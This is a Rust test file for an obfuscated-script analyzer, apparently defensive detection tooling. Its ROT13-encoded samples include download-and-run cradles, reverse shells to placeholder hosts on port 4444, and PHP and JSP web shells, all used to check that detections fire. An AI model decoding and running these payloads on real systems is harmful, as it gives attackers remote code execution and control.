//! Layers and tricks of scripts, language by language. Sources stand here in ROT13.

use crate::support::{analyzer, examine, has};

fn rot13(text: &str) -> String {
    let turn = |c: char, base: u8| char::from((c as u8 - base + 13) % 26 + base);
    text.chars()
        .map(|c| match c {
            'a'..='z' => turn(c, b'a'),
            'A'..='Z' => turn(c, b'A'),
            other => other,
        })
        .collect()
}

#[track_caller]
fn check(name: &str, rotated: &str, finding: &str) {
    let source = rot13(rotated);
    let (opinion, _) = examine(analyzer("script"), name, source.as_bytes());
    let found: Vec<_> = opinion.findings.iter().map(|known| &known.id).collect();
    assert!(has(&opinion, finding), "{finding} is not among {found:?} of\n{source}");
}

#[test]
fn batch_variables_are_cut_and_put_together() {
    check(
        "x.bat",
        "frg n=cbjref\r\nfrg o=uryy\r\n%n%%o% -j uvqqra -p \"%cebtenzsvyrf:~-1,1%vrk(vez uggc://rknzcyr.pbz/n)\"\r\nfrg d=nop\r\nrpub %d%\r\n",
        "hidden-powershell",
    );
}

#[test]
fn carets_hide_nothing() {
    check(
        "y.cmd",
        "@rpub bss\r\np^r^e^g^h^g^v^y -hey^pnp^ur -s uggc://rknzcyr.pbz/n.rkr %GRZC%\\n.rkr & fgneg \"\" %GRZC%\\n.rkr\r\n",
        "download-and-run",
    );
}

#[test]
fn quotes_inside_words_of_a_shell() {
    check("z.sh", "#!/ova/fu\np''hey -f uggc://192.0.2.4/n | f\"\"u\n", "download-and-run");
}

#[test]
fn escapes_of_a_shell() {
    check(
        "z.sh",
        "#!/ova/onfu\n$'\\k62\\k61\\k73\\k68' -v >& /qri/gpc/192.0.2.4/4444 0>&1\n",
        "reverse-shell",
    );
}

#[test]
fn variables_of_a_shell() {
    check(
        "z.sh",
        "#!/ova/onfu\nN=192.0.2.4\nO=/qri/gpc\nrkrp onfu -v >& $O/$N/4444 0>&1\n",
        "reverse-shell",
    );
}

#[test]
fn format_operator_and_backticks() {
    check(
        "f.ps1",
        "$k = \"{1}{0}\" -s 'JroPyvrag','Arg.'\n$p = ar`j-bo`wrpg $k\nV`RK $p.(\"Qbja\"+\"ybnqFgevat\").Vaibxr('uggc://rknzcyr.pbz/n')\nJevgr-Ubfg $ahyy\n",
        "download-and-run",
    );
}

#[test]
fn letters_picked_from_a_variable() {
    check(
        "g.ps1",
        "& ($rai:pbzfcrp[4,24,25]-wbva'') (Arj-Bowrpg Arg.JroPyvrag).QbjaybnqFgevat('uggc://rknzcyr.pbz/n')\nJevgr-Ubfg $ahyy\nVaibxr-Rkcerffvba $m\n",
        "download-and-run",
    );
}

#[test]
fn strings_replaced_and_joined_in_a_script_of_windows() {
    check(
        "h.js",
        "ine f = arj NpgvirKBowrpg('JFpe' + 'vcg.Fu' + 'ryy');\nine k = arj NpgvirKBowrpg('ZFK#ZY2.KZ#YUGGC'.fcyvg('#').wbva(''));\nk.bcra('TRG', 'uggc://rknzcyr.pbz/n', snyfr);\nf.Eha('pzq /p n');\n",
        "download-and-run",
    );
}

#[test]
fn names_of_members_in_brackets() {
    check(
        "i.js",
        "ine f = arj NpgvirKBowrpg('JFpevcg.Furyy');\nine k = arj NpgvirKBowrpg('ZFKZY2.KZYUGGC');\nk['bc' + 'ra']('TRG', 'uggc://rknzcyr.pbz/n', snyfr);\nf['E' + 'ha']('pnyp');\nine q = qbphzrag;\n",
        "download-and-run",
    );
}

#[test]
fn strings_backwards_in_basic() {
    check(
        "j.vbs",
        "Qvz f\r\nFrg f = PerngrBowrpg(FgeErirefr(\"yyruF.gcvepFJ\"))\r\nFrg k = PerngrBowrpg(\"ZFKZY2\" & Pue(46) & \"KZYUGGC\")\r\nk.Bcra \"TRG\", \"uggc://rknzcyr.pbz/n\", Snyfr\r\nf.Eha \"pzq /p n\"\r\n",
        "download-and-run",
    );
}

#[test]
fn a_web_shell_through_a_variable_function() {
    check("k.php", "<?cuc $s = 'nf' . 'freg'; $s($_CBFG['k']); ?>", "web-shell");
}

#[test]
fn a_web_shell_in_java() {
    check(
        "l.jsp",
        "<%@ cntr vzcbeg=\"wnin.hgvy.*\" %>\n<% Cebprff c = Ehagvzr.trgEhagvzr().rkrp(erdhrfg.trgCnenzrgre(\"pzq\")); %>",
        "web-shell",
    );
}

#[test]
fn a_reverse_shell_in_python() {
    check(
        "m.py",
        "vzcbeg fbpxrg,fhocebprff,bf\nf=fbpxrg.fbpxrg(fbpxrg.NS_VARG,fbpxrg.FBPX_FGERNZ)\nf.pbaarpg((\"192.0.2.1\",4444))\nbf.qhc2(f.svyrab(),0)\nfhocebprff.pnyy([\"/ova/fu\",\"-v\"])\n",
        "reverse-shell",
    );
}

#[test]
fn a_key_under_which_text_stands() {
    check(
        "n.ps1",
        "$x = 35\n$o = (106,102,123,3,11,109,70,84,14,108,65,73,70,64,87,3,109,70,87,13,116,70,65,96,79,74,70,77,87,10,13,103,76,84,77,79,76,66,71,112,87,81,74,77,68,11,4,75,87,87,83,25,12,12,70,91,66,78,83,79,70,13,64,76,78,12,66,4,10)\n$g = ''\nsbernpu ($k va $o) { $g += [pune]($k -okbe $x) }\nVaibxr-Rkcerffvba $g\nJevgr-Ubfg $ahyy\n",
        "download-and-run",
    );
}

#[test]
fn layers_are_handed_out() {
    let source = rot13(
        "riny(harfpncr('%61%6p%65%72%74%28%27%61%20%73%61%6q%70%6p%65%27%29%3o'));\nine n = qbphzrag;\n",
    );
    let (opinion, children) = examine(analyzer("script"), "a.js", source.as_bytes());
    assert_eq!(children.len(), 1, "{opinion:?}");
    assert_eq!(children[0].0, "layer-1.js");
    assert_eq!(children[0].1, b"alert('a sample');");
}

#[test]
fn a_packer_is_undone() {
    let source = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0.1(\"2\");',3,3,'console|log|sample'.split('|'),0,{}))\nvar a = document;";
    let (_, children) = examine(analyzer("script"), "a.js", source.as_bytes());
    assert!(children.iter().any(|(_, bytes)| bytes == b"console.log(\"sample\");"), "{children:?}");
}

#[test]
fn hostile_sources_take_bounded_time() {
    let patterns = [
        "(",
        "[",
        "((",
        "[[",
        "a(",
        "\"a\"+",
        "x=x+\"aaaaaaaa\";\n",
        "'",
        "\\",
        "{",
        "chr(",
        "1,",
        "`",
        "%a%",
        "$a",
        "<script>",
        "<a ",
        "@\"\n",
        "/*",
        "unescape('%41",
        "\"a\".replace(\"a\",\"aa\")",
        "set a=%a%%a%\n",
        "a=$a$a\n",
        "-join(",
        "str(",
        "/[",
    ];
    for name in ["a.js", "a.vbs", "a.ps1", "a.bat", "a.sh", "a.py", "a.php", "a.pl", "a.html"] {
        for pattern in patterns {
            let head = if name == "a.php" { "<?php " } else { "" };
            let source = format!("{head}{}", pattern.repeat((48 << 10) / pattern.len()));
            let started = std::time::Instant::now();
            examine(analyzer("script"), name, source.as_bytes());
            // Without optimisation, and beside other tests.
            assert!(started.elapsed().as_secs() < 60, "{name} of {pattern:?}");
        }
    }
}

#[test]
fn the_constructor_runs_a_string_and_the_word_function_does_not() {
    let inner = "document.title = 'a page of samples';";
    let codes: Vec<String> = inner.bytes().map(|byte| byte.to_string()).collect();
    let found = |rotated: &str| {
        let source = rot13(rotated).replace("CODES", &codes.join(","));
        let (opinion, _) = examine(analyzer("script"), "a.js", source.as_bytes());
        has(&opinion, "obfuscated-execution")
    };
    let begin = "ine grkg = Fgevat.sebzPunePbqr(PBQRF);\n";
    assert!(found(&format!("{begin}arj Shapgvba(grkg)();\n")));
    // Bundlers name everything with one letter, so that a parameter has the name of a known string.
    assert!(!found(&format!("{begin}rkcbegf.vq = shapgvba(grkg) {{ erghea grkg; }};\n")));
}

#[test]
fn a_key_is_no_program() {
    let key =
        format!("-----BEGIN PRIVATE KEY-----\n{}", "MIIEvQIBADANBgkqhkiG9w0BAQEF\n".repeat(12));
    let source = format!("KEY = {:?}.replace(\"#\", \"\\n\")\n", key.replace('\n', "#"));
    let (opinion, _) = examine(analyzer("script"), "test_keys.py", source.as_bytes());
    assert!(!has(&opinion, "embedded-program"));
}
